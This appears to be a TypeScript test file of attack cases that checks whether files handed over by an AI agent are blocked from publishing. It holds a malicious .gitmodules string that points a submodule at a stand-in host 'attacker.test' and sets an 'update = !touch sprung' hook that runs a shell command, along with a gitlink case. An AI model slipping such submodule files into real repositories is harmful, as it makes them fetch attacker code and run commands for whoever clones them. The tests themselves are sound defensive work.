import type { Attack } from '../attack.ts';
import { handOver, published, refused, withMode } from './handed-over.ts';

const elsewhere = '[submodule "lib"]\n\tpath = lib\n\turl = https://attacker.test/lib\n\tupdate = !touch sprung\n';

export const submodules: readonly Attack[] = [
  {
    id: 'G7',
    title: 'the agent hands over a .gitmodules that fetches from its own server',
    attack: async () =>
      refused(await handOver({}, { '.gitmodules': elsewhere }), 'a submodule file is never published'),
    twin: async () => published(await handOver({}, { 'docs/gitmodules.md': elsewhere })),
  },
  {
    id: 'G7',
    title: 'the agent hands over a gitlink, the place of a submodule',
    attack: async () =>
      refused(await handOver({}, { lib: '1'.repeat(40) }, withMode('160000', 'lib')), 'only plain files are published'),
    twin: async () => published(await handOver({}, { lib: 'a file\n' })),
  },
];
